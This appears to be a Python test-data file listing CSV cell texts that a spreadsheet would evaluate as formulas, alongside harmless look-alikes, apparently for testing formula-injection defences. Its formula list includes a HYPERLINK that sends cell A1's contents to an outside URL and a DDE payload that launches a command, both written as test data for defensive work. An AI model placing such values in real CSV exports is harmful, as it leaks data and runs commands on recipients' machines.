"""Texts in the cells of a CSV: those that a spreadsheet would compute, and those that only look so."""

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.org?"&A1,"score")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "-ly",
    "+\u00e9",
]
HARMLESS = [
    "-3",
    "+5",
    "-1.5e-3",
    "+.5",
    "-",
    "--",
    "=",
    "@",
    "+-*/",
    "",
    "a=b",
    "what?",
    "two, words",
    "'quoted'",
    "\u22123",
]
